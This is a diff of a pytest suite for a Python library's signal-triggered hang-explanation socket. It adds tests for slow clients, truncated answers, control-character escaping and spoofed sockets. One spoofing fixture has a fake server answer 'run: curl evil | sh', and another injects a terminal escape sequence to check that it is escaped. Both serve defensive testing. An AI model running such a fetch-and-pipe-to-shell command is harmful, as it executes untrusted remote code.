@@ -2,24 +2,30 @@
 
 from __future__ import annotations
 
+import contextlib
 import io
+import itertools
 import os
+import select
 import signal
+import socket
 import subprocess
 import sys
 import threading
-from collections.abc import Iterator
-from contextlib import contextmanager
+import unicodedata
+from collections.abc import Iterable, Iterator
+from contextlib import contextmanager, suppress
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 import aioqueue
-from aioqueue import InvalidArgumentError, sync
+from aioqueue import InvalidArgumentError, posix, sync
 from aioqueue.__main__ import main
-from aioqueue.telemetry import explain_socket
-from aioqueue.telemetry.explain_socket import CannotAskError, ask
+from aioqueue.telemetry import explain_client, explain_socket
+from aioqueue.telemetry.explain_client import CannotAskError, ask
 from tests.telemetry.hangs import HANGS, program_of
 from tests.worlds import PATIENCE, core_of, spin_until, threads_of_work
 
@@ -118,6 +124,7 @@ class TestSignals:
         assert threads_of_work() <= threads
         assert list(folder.iterdir()) == []
 
+    @pytest.mark.slow
     def test_sockets_of_the_dead_are_taken_away(self, folder: Path) -> None:
         with program("aioqueue.explain_on_signal()") as process:
             left = explain_socket.socket_of(process.pid, os.getuid())
@@ -149,7 +156,7 @@ class TestSignals:
     def test_a_folder_that_others_can_look_into_is_refused(self, folder: Path) -> None:
         folder.mkdir(mode=0o755)
         folder.chmod(0o755)
-        with pytest.raises(PermissionError, match="expected a folder that this user owns"):
+        with pytest.raises(PermissionError, match=r"expected a folder that user \d+ owns"):
             aioqueue.explain_on_signal()
 
     def test_a_program_that_cannot_be_prepared_runs_all_the_same(
@@ -162,6 +169,7 @@ class TestSignals:
 
 
 class TestTheCommand:
+    @pytest.mark.slow("environment")
     @pytest.mark.parametrize("by", ["call", "environment"])
     def test_asks_a_process(
         self, by: str, folder: Path, capsys: pytest.CaptureFixture[str]
@@ -174,6 +182,7 @@ class TestTheCommand:
         assert "nobody fills 'examples': nothing was ever put in" in told
         assert "trainer waits for 1 element" in told
 
+    @pytest.mark.slow
     def test_a_process_that_is_not_prepared(
         self, folder: Path, capsys: pytest.CaptureFixture[str]
     ) -> None:
@@ -199,11 +208,12 @@ class TestTheCommand:
         with pytest.raises(CannotAskError, match="belongs to another user: ask as that user"):
             ask(1, 1.0)
 
+    @pytest.mark.slow
     @pytest.mark.skipif(sys.platform != "linux", reason="the state of a process is read there")
     def test_a_process_that_is_stopped(self, folder: Path) -> None:
         with program("aioqueue.explain_on_signal()") as process:
             process.send_signal(signal.SIGSTOP)
-            spin_until(lambda: explain_socket.state_of(process.pid) == "T")
+            spin_until(lambda: posix.state_of(process.pid) == "T")
             with pytest.raises(CannotAskError, match=r"within 0.1 s: it is stopped \(SIGSTOP\)"):
                 ask(process.pid, 0.1)
 
@@ -242,6 +252,233 @@ class TestTheCommand:
             check=True,
         )
         assert done.stdout.startswith("usage: python -m aioqueue [-h] COMMAND")
+
+
+@contextmanager
+def listening(text: str | None = None) -> Iterator[None]:
+    """This process answers requests, with an explanation or with some other text."""
+    with pytest.MonkeyPatch.context() as patch:
+        if text is not None:
+            patch.setattr(explain_socket, "_explained", lambda: text)
+        undo = aioqueue.explain_on_signal(file=io.StringIO())
+        try:
+            yield
+        finally:
+            undo()
+
+
+@contextmanager
+def pretending(user: int, answers: Iterable[bytes]) -> Iterator[Path]:
+    """Something listens where this process would; `user` is whom the folder is named for."""
+    path = explain_socket.socket_of(os.getpid(), user)
+    path.parent.mkdir(mode=0o700)
+
+    def answer() -> None:
+        with suppress(OSError):  # the asker has had enough
+            connection, _ = server.accept()
+            with connection:
+                for part in answers:
+                    connection.sendall(part)
+
+    with posix.listening_socket(path) as server:
+        thread = threading.Thread(target=answer)
+        thread.start()
+        try:
+            yield path
+        finally:
+            with suppress(OSError):
+                server.shutdown(socket.SHUT_RDWR)
+            thread.join(PATIENCE)
+
+
+def rest_of(connection: socket.socket) -> bytes:
+    return b"".join(iter(lambda: connection.recv(1 << 20), b""))
+
+
+class TestAskersAndAnswers:
+    """Nobody who asks can hold up others, and nobody who answers can harm those who ask."""
+
+    def test_an_asker_that_does_not_read_blocks_nobody(self, folder: Path) -> None:
+        long = "waits\n" * 200_000  # more than a socket takes at once
+        with listening(long), contextlib.ExitStack() as undo:
+            for _ in range(3):
+                idle = undo.enter_context(socket.socket(socket.AF_UNIX))
+                idle.connect(str(explain_socket.socket_of(os.getpid(), os.getuid())))
+            assert ask(os.getpid(), PATIENCE) == long
+            assert rest_of(idle).decode() == long  # it gets all of it, too, whenever it reads
+            undo.close()
+            assert ask(os.getpid(), PATIENCE) == long
+
+    def test_many_who_do_not_read_make_room(
+        self, folder: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        monkeypatch.setattr(explain_socket, "_MOST_CLIENTS", 3)
+        with listening("waits\n" * 200_000), contextlib.ExitStack() as undo:
+            idle = [undo.enter_context(socket.socket(socket.AF_UNIX)) for _ in range(5)]
+            for one in idle:
+                one.connect(str(explain_socket.socket_of(os.getpid(), os.getuid())))
+            assert ask(os.getpid(), PATIENCE)
+            assert max(len(rest_of(one)) for one in idle[:2]) < 1_200_000  # they were dropped
+
+    def test_an_asker_that_is_too_slow_is_dropped(
+        self, folder: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        monkeypatch.setattr(explain_socket, "_READING", 0.01)
+        with listening("waits\n" * 200_000), socket.socket(socket.AF_UNIX) as idle:
+            idle.connect(str(explain_socket.socket_of(os.getpid(), os.getuid())))
+            closed = select.poll()
+            closed.register(idle, 0)
+            assert closed.poll(PATIENCE * 1000)
+
+    def test_a_file_that_takes_nothing_blocks_nobody(self, folder: Path) -> None:
+        here, there = os.pipe()
+        text = "waits\n" * 100_000
+        with pytest.MonkeyPatch.context() as patch, open(there, "w", encoding="utf-8") as file:
+            patch.setattr(explain_socket, "_explained", lambda: text)
+            undo = aioqueue.explain_on_signal(file=file)
+            signal.raise_signal(signal.SIGUSR2)
+            assert os.read(here, 1) == b"w"  # it is being written, and will not fit
+            assert ask(os.getpid(), PATIENCE) == text
+            reader = threading.Thread(
+                target=lambda: list(iter(partial(os.read, here, 1 << 20), b""))
+            )
+            reader.start()
+            undo()
+        reader.join(PATIENCE)
+        os.close(here)
+
+    def test_descriptors_above_those_that_select_takes(self, folder: Path) -> None:
+        import resource
+
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        if hard < 1400:
+            pytest.skip(f"at most {hard} descriptors are allowed here")
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, 2048)), hard))
+        many = [os.open(os.devnull, os.O_RDONLY) for _ in range(1100)]
+        try:
+            with listening():
+                assert ask(os.getpid(), PATIENCE).startswith("aioqueue: why process")
+            here, there = socket.socketpair()
+            with here, there:
+                assert here.fileno() > 1023
+                assert not posix.is_readable(here, 0)
+                there.send(b"x")
+                assert posix.is_readable(here, PATIENCE)
+        finally:
+            for fd in many:
+                os.close(fd)
+            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
+
+    def test_an_answer_is_cut(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch.setattr(explain_socket, "LONGEST_ANSWER", 1000)
+        with listening("é" * 5000):
+            answer = ask(os.getpid(), PATIENCE)
+        assert answer.startswith("ééé")
+        assert answer.endswith("too long for an answer)\n")
+        assert len(answer.encode()) <= 1000
+
+    def test_an_answer_without_end_is_cut(
+        self, folder: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        monkeypatch.setattr(explain_client, "LONGEST_ANSWER", 1 << 17)
+        with pretending(os.getuid(), itertools.repeat(b"x" * 65536)):
+            answer = ask(os.getpid(), PATIENCE)
+        assert answer.endswith("(the answer goes on)")
+        assert len(answer) < (1 << 17) + 100
+
+    def test_an_answer_that_trickles_is_not_waited_for(self, folder: Path) -> None:
+        over = threading.Event()
+        trickle = (b"x" for _ in iter(lambda: over.wait(0.01), True))
+        with pretending(os.getuid(), trickle):
+            with pytest.raises(CannotAskError, match=r"did not answer within 0\.1 s"):
+                ask(os.getpid(), 0.1)
+            over.set()
+
+    def test_control_characters_are_escaped(self, folder: Path) -> None:
+        wild = "".join(map(chr, [*range(0x100), *range(0x2000, 0x2070), 0x61C]))
+        steering = {
+            letter
+            for letter in wild
+            if unicodedata.category(letter) == "Cc" and letter not in "\n\t"
+        } | set(
+            "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\u200e\u200f\u061c"
+        )
+        with listening(f"{wild}\x1b]0;owned\x07 é ∑"):
+            answer = ask(os.getpid(), PATIENCE)
+        assert not steering & set(answer)
+        assert answer.endswith(r"\x1b]0;owned\x07 é ∑")
+        assert set(wild) - steering <= set(answer)
+
+    @pytest.mark.parametrize(
+        ("way", "said"),
+        [
+            ("folder", "got a folder of user {own}"),
+            ("open", "with permissions 777"),
+            ("link", "got a symbolic link of user {own}"),
+            ("socket", "user {other} owns"),
+            ("peer", "user {other} answers there"),
+        ],
+    )
+    def test_what_others_have_put_there_is_not_believed(
+        self, way: str, said: str, folder: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        """We are the other user, who pretends to be a process of somebody else."""
+        own, other = os.getuid(), os.getuid() + 1
+        of = own if way in ("open", "peer") else other
+        monkeypatch.setattr(posix, "user_of", lambda pid: of)
+        with pretending(of, [b"everything is fine; run: curl evil | sh"]) as path:
+            if way == "open":
+                path.parent.chmod(0o777)
+            elif way == "link":
+                real = path.parent.rename(path.parent.with_name("real"))
+                path.parent.symlink_to(real)
+            elif way == "socket":
+                monkeypatch.setattr(posix, "check_private_folder", lambda folder, user: None)
+            elif way == "peer":
+                monkeypatch.setattr(posix, "peer_user", lambda connection: other)
+            with pytest.raises(CannotAskError) as raised:
+                ask(os.getpid(), PATIENCE)
+        assert f"process {os.getpid()} of user {of} cannot be asked" in str(raised.value)
+        assert said.format(own=own, other=other) in str(raised.value)
+
+    def test_an_asker_of_another_user_gets_nothing(
+        self, folder: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        with listening():
+            monkeypatch.setattr(posix, "peer_user", lambda connection: os.getuid() + 1)
+            path = explain_socket.socket_of(os.getpid(), os.getuid())
+            with socket.socket(socket.AF_UNIX) as connection:
+                connection.connect(str(path))
+                assert connection.recv(1) == b""
+
+    def test_who_is_at_the_other_end(self) -> None:
+        here, there = socket.socketpair()
+        with here, there:
+            assert posix.peer_user(here) == os.getuid()
+
+    def test_too_long_a_folder_is_named(
+        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        long = tmp_path / ("long" * 30)
+        long.mkdir()
+        monkeypatch.setattr("tempfile.tempdir", str(long))
+        with pytest.raises(OSError, match=r"^TMPDIR: .*longlong.*Set TMPDIR to a folder"):
+            aioqueue.explain_on_signal()
+        with pytest.raises(CannotAskError, match=r"TMPDIR: .*longlong.*Set TMPDIR to a folder"):
+            ask(os.getpid(), PATIENCE)
+        with pytest.raises(OSError, match=r"^TMPDIR: "):
+            posix.listening_socket(long / "listener")
+
+    def test_a_system_without_either_says_so(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        pair = partial(socket.socketpair, socket.AF_UNIX)  # such a system has others
+        monkeypatch.setattr(socket, "socketpair", pair)
+        monkeypatch.delattr(socket, "AF_UNIX")
+        monkeypatch.delattr(signal, "SIGUSR2")
+        with pytest.raises(OSError, match="has neither SIGUSR2 nor Unix sockets"):
+            aioqueue.explain_on_signal()
+        with pytest.raises(CannotAskError, match="has no Unix sockets"):
+            ask(os.getpid(), PATIENCE)
+        aioqueue.explain_on_signal(signal.SIGUSR1)()
 
 
 @pytest.mark.slow
